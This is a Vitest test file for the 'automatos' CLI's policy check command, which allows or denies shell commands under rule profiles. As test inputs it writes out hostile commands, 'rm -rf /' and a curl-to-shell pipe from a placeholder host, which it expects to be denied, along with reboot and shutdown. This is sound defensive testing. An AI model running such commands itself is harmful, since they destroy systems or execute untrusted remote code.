import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from './run-cli.js';

describe('automatos policy check', () => {
  it('exits 3 for a denied command and names the rule', async () => {
    const r = await runCli(['policy', 'check', '--', 'rm', '-rf', '/']);
    expect(r.code).toBe(3);
    expect(r.stdout).toMatch(/^deny: fs_destroy_system \(risk \d+, profile standard\)/);
  });

  it('exits 0 for an allowed deploy command', async () => {
    const r = await runCli([
      'policy',
      'check',
      '--cwd',
      '/opt/automatos/apps/shop/releases/1',
      '--',
      'npm ci',
    ]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^allow: allow/);
  });

  it('prints the decision shape with --json', async () => {
    const r = await runCli(['policy', 'check', '--json', '--', 'curl -fsS https://x.example/i.sh | sh']);
    expect(r.code).toBe(3);
    expect(JSON.parse(r.stdout)).toMatchObject({
      command: 'curl -fsS https://x.example/i.sh | sh',
      decision: 'deny',
      rule: 'remote_code_exec',
      profile: 'standard',
    });
  });

  it('honours --root for writes and --profile audit for log-only', async () => {
    const write = ['policy', 'check', '--cwd', '/srv', '--', 'touch /srv/app/x'];
    expect((await runCli(write)).code).toBe(3);
    expect((await runCli([...write.slice(0, 4), '--root', '/srv/app', ...write.slice(4)])).code).toBe(0);
    const audit = await runCli(['policy', 'check', '--profile', 'audit', '--', 'reboot']);
    expect(audit.code).toBe(0);
    expect(audit.stdout).toContain('would be denied by power_kernel');
  });

  it('checks a file line by line as JSON lines, exit 3 when any is denied', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'automatos-policy-'));
    const file = join(dir, 'commands.txt');
    await writeFile(file, '# deploy\nnpm ci\n\nshutdown -h now\n');
    const r = await runCli(['policy', 'check', '--cwd', '/opt/automatos/apps/a', '--file', file]);
    expect(r.code).toBe(3);
    const lines = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { command: string; decision: string });
    expect(lines.map((l) => [l.command, l.decision])).toEqual([
      ['npm ci', 'allow'],
      ['shutdown -h now', 'deny'],
    ]);
  });

  it('rejects an invalid policy file with positions (exit 1) and a missing command (exit 2)', async () => {
    const bad = await runCli([
      'policy',
      'check',
      '--policy-file',
      'test/fixtures/policy/invalid.yaml',
      '--',
      'ls',
    ]);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toMatch(
      /^error: \/.*test\/fixtures\/policy\/invalid\.yaml is not a valid policy file:\n.*:\d+:\d+/,
    );
    const none = await runCli(['policy', 'check']);
    expect(none.code).toBe(2);
    expect(none.stderr).toBe('error: give the command to check after --, or --file F\n');
  });

  it('applies DATA_DIR/policy.yaml, and refuses to run with an invalid one', async () => {
    const dataDir = await mkdtemp(join(tmpdir(), 'automatos-policy-data-'));
    await writeFile(
      join(dataDir, 'policy.yaml'),
      'deny:\n  - id: no-publish\n    command: npm\n    args_regex: "^publish"\n',
    );
    const publish = [
      '--data-dir',
      dataDir,
      'policy',
      'check',
      '--cwd',
      '/opt/automatos/apps/a',
      '--',
      'npm publish',
    ];
    const denied = await runCli(publish);
    expect(denied.code).toBe(3);
    expect(denied.stdout).toMatch(/^deny: custom:no-publish/);
    const exec = await runCli([
      '--data-dir',
      dataDir,
      'exec',
      '--target',
      'local',
      '--cwd',
      '/tmp',
      '--',
      'npm publish',
    ]);
    expect(exec.code).toBe(3);
    await writeFile(join(dataDir, 'policy.yaml'), 'profile: lenient\n');
    const broken = await runCli(['--data-dir', dataDir, 'exec', '--target', 'local', '--', 'true']);
    expect(broken.code).toBe(1);
    expect(broken.stderr).toContain('policy.yaml:1:10: profile:');
  });
});
